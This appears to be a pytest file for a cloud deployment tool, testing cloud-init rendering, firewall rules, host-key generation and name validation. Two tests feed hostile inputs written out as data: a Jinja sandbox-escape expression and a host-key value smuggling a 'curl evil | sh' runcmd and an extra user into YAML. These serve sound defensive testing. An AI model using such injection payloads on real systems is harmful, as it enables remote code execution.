"""What both cloud programs share: cloud-init rendering, firewall rules, node records, host keys, extras."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from jinja2.exceptions import SecurityError
from jinja2.sandbox import SandboxedEnvironment

from oscar_deploy.providers.cloud import sdk_check as extra_check
from oscar_deploy.providers.vm import (
    ClusterShape,
    HostKey,
    NodeRecord,
    VmNode,
    _user_data_template,
    check_shape,
    firewall_rules,
    generate_host_key,
    render_user_data,
)
from oscar_deploy.support.errors import EXIT_FAILED
from oscar_deploy.support.extras import MissingExtraError, import_extra


def test_user_data_is_rendered_in_a_sandbox() -> None:
    template = _user_data_template()
    assert isinstance(template.environment, SandboxedEnvironment)
    with pytest.raises(SecurityError):
        template.environment.from_string("{{ ''.__class__.__mro__[1].__subclasses__() }}").render()


def test_hostile_values_stay_inside_their_yaml_strings() -> None:
    hostile = HostKey(
        private='x"\nruncmd: [curl evil | sh]\n# ',
        public="ssh-ed25519 AAAA\nusers: [{name: mallory}]",
    )
    config = yaml.safe_load(render_user_data("lab", VmNode("server-0", "server", "m1.large"), hostile))
    assert set(config) == {
        "hostname",
        "preserve_hostname",
        "manage_etc_hosts",
        "ssh_pwauth",
        "disable_root",
        "ssh_deletekeys",
        "ssh_keys",
        "write_files",
    }
    assert config["ssh_keys"] == {"ed25519_private": hostile.private, "ed25519_public": hostile.public}


def test_user_data_without_host_key_lets_cloud_init_make_its_own() -> None:
    text = render_user_data("lab", VmNode("agent-3", "agent", "m1.medium", "arm64"), None)
    config = yaml.safe_load(text)
    assert "ssh_keys" not in config and "ssh_deletekeys" not in config
    assert config["hostname"] == "lab-agent-3"
    assert yaml.safe_load(config["write_files"][0]["content"]) == {
        "cluster": "lab",
        "node": "agent-3",
        "role": "agent",
        "arch": "arm64",
    }


def test_generated_host_keys_are_openssh_ed25519(tmp_path: Path) -> None:
    key = generate_host_key("root@lab-server-0")
    assert key.public.startswith("ssh-ed25519 ") and key.public.endswith(" root@lab-server-0")
    assert key.private.startswith("-----BEGIN OPENSSH PRIVATE KEY-----")
    private = tmp_path / "key"
    private.write_text(key.private)
    private.chmod(0o600)
    derived = subprocess.run(["ssh-keygen", "-y", "-f", str(private)], capture_output=True, text=True, check=True)
    assert derived.stdout.split()[:2] == key.public.split()[:2]
    assert generate_host_key("x").private != generate_host_key("x").private
    assert key.private not in repr(key)


def test_firewall_rules_are_the_same_list_for_every_cloud() -> None:
    rules = [(rule.port, rule.cidr) for rule in firewall_rules(["198.51.100.0/24"])]
    assert rules == [
        (22, "198.51.100.0/24"),
        (6443, "198.51.100.0/24"),
        (80, "0.0.0.0/0"),
        (443, "0.0.0.0/0"),
        (None, None),
    ]


def test_node_record_reads_back_an_output_without_empty_keys() -> None:
    record = NodeRecord.from_output(
        {
            "name": "agent-0",
            "vm_name": "lab-agent-0",
            "role": "agent",
            "arch": "amd64",
            "private_address": "10.20.0.11",
            "ssh_user": "ubuntu",
            "jump_host": "203.0.113.10",
        }
    )
    assert (record.public_address, record.jump_host, record.host_key) == (None, "203.0.113.10", None)
    with pytest.raises(ValueError, match=r"^stack output nodes: 'x' has role 'master', not server or agent$"):
        NodeRecord.from_output({"name": "x", "role": "master"})


def test_a_missing_extra_is_one_line_with_the_install_command(monkeypatch: pytest.MonkeyPatch) -> None:
    # None in sys.modules makes the import fail as if the package were not installed.
    monkeypatch.setitem(sys.modules, "pulumi_openstack", None)
    with pytest.raises(MissingExtraError) as raised:
        import_extra("pulumi_openstack", "openstack")
    assert str(raised.value) == (
        "target openstack: the Python package pulumi_openstack is not installed; "
        "run pip install 'oscar-deploy[openstack]'"
    )
    assert raised.value.exit_code == EXIT_FAILED
    with pytest.raises(ValueError, match=r"^kubernetes is not a module of the 'aws' extra$"):
        import_extra("kubernetes", "aws")


def test_doctor_names_the_extra_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    assert extra_check("aws").status == "ok"
    import importlib.util

    real_find_spec = importlib.util.find_spec
    monkeypatch.setattr(
        importlib.util, "find_spec", lambda name, *a: None if name == "pulumi_aws" else real_find_spec(name, *a)
    )
    check = extra_check("aws")
    assert (check.status, check.fix, check.needed_for) == ("missing", "pip install 'oscar-deploy[aws]'", ("aws",))
    assert check.detail == "not importable: pulumi_aws (target aws only)"


@pytest.mark.parametrize(
    ("cluster", "node", "problem"),
    [
        ("lab\n", "server-0", "cluster: 'lab\\n' is not a valid name"),
        ("lab", "server-0\n", "nodes: 'server-0\\n' is not a node name such as server-0 or agent-12"),
        ("lab", "server-01", "nodes: 'server-01' is not a node name"),
    ],
)
def test_names_are_matched_whole_before_they_name_resources(cluster: str, node: str, problem: str) -> None:
    key = generate_host_key("test").public
    shape = ClusterShape(cluster, (VmNode(node, "server", "m1.small"),), "ubuntu", key, ("0.0.0.0/0",))
    with pytest.raises(ValueError, match=re.escape(problem)):
        check_shape(shape)
    check_shape(ClusterShape("l" * 32, (VmNode("server-9999", "server", "m1.small"),), "u", key, ("0.0.0.0/0",)))
